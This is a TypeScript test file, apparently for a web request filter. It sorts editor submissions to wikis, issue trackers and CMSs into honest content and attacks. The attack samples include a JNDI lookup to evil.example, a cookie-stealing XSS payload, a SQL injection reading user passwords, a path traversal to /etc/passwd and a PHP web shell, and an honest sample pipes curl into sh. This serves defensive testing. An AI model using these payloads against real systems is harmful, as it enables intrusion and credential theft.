import { filled, type HonestKinds, testKinds } from './honest-kinds.ts'

const SCRIPT =
  '#!/bin/bash\nset -euo pipefail\n\n# installs the agent\nif ! command -v curl > /dev/null; then\n  apt-get update && apt-get install -y curl\nfi\ncurl -fsSL https://get.example.com/i.sh | sh\nrm -rf /tmp/x; ls -la /etc/nginx\ngrep -q root /etc/passwd || exit 1\nexport PATH="$HOME/bin:$PATH"\necho "done $(date)"\nfor f in *.log; do gzip "$f"; done\n'
const PAGE = `# Install\n\nRun this on each host:\n\n\`\`\`sh\n${SCRIPT}\`\`\`\n\nThen:\n\n\`\`\`sql\nSELECT * FROM a WHERE x = 1 OR 1=1;\n\`\`\`\n`
const PHP =
  '<?php\nnamespace App;\n\nclass A\n{\n    public function b($db): string\n    {\n        $id = $_GET["id"];\n        exec("ls -la " . escapeshellarg($id));\n        $db->query("SELECT * FROM a WHERE id = " . (int) $id);\n        // Shown below the title of every page, and in the list of all pages of the section.\n        return "<b>" . htmlspecialchars($id) . "</b>";\n    }\n}\n'

/** Where each editor sends what was written in it. */
const EDITED: ReadonlyArray<readonly [path: string, field: string]> = [
  ['/ann/app/_edit/main/src/deploy.sh', 'content'],
  ['/ann/app/_new/main/', 'content'],
  ['/ann/app/wiki?action=_new', 'content'],
  ['/ann/app/issues/new', 'content'],
  ['/ann/app/issues/7/comments', 'content'],
  ['/ann/app/markup', 'text'],
  ['/xwiki/bin/save/Main/WebHome', 'content'],
  ['/projects/app/wiki/Install', 'content[text]'],
  ['/projects/app/issues', 'issue[description]'],
  ['/issues/7', 'issue[notes]'],
  ['/books/ops/page/install', 'markdown'],
  ['/books/ops/page/install', 'html'],
  ['/wp-admin/post.php', 'content'],
  ['/node/7/edit', 'body[0][value]'],
  ['/administrator/index.php?option=com_content', 'jform[articletext]'],
  ['/admin/blog/post/7/change/', 'body'],
  ['/bug_report.php', 'steps_to_reproduce'],
  ['/process_bug.cgi', 'comment'],
  ['/otrs/index.pl', 'Body'],
  ['/posts', 'raw'],
  ['/forum/posting.php?mode=reply', 'message'],
  ['/mod/forum/post.php', 'message[text]'],
]

const LOOKUP = '$' + '{jndi:ldap://evil.example/a}'

/** What people write in the editors of applications that keep it as it is. */
const KINDS: HonestKinds = {
  'a page, a file or a post with a script in it, from the editor of its application': {
    honest: [
      ...EDITED.map(([path, field]) => filled({ [field]: PAGE }, path)),
      filled({ tree_path: 'src/a.php', content: PHP }, '/ann/app/_edit/main/src/a.php'),
      filled({ tree_path: 'deploy.sh', content: SCRIPT }, '/ann/app/_edit/main/deploy.sh'),
      filled(
        { draft_key: 'topic_7', data: JSON.stringify({ reply: PAGE, action: 'reply' }) },
        '/drafts.json',
      ),
    ],
    attacks: [
      ...EDITED.flatMap(([path, field]) => [
        filled({ [field]: `${PAGE}\n${LOOKUP}` }, path),
        filled({ [field]: `${PAGE}\n<img src=x onerror=alert(document.cookie)>` }, path),
        filled({ [field]: "x' UNION SELECT login, pass FROM users-- " }, path),
        filled({ [`${field}_id`]: PAGE }, path),
        filled({ [field]: PAGE }, '/api/items'),
      ]),
      filled({ tree_path: '../../../etc/passwd', content: SCRIPT }, '/ann/app/_edit/main/x'),
      filled({ content: '<?php system($_GET["c"]); ?>' }, '/ann/app/_edit/main/x'),
      filled({ content: PAGE }, '/ann/vuln.php/_edit/main/x'),
      filled({ text: PAGE }, '/ann/vuln.php/x/markup'),
    ],
  },
}

testKinds(KINDS)
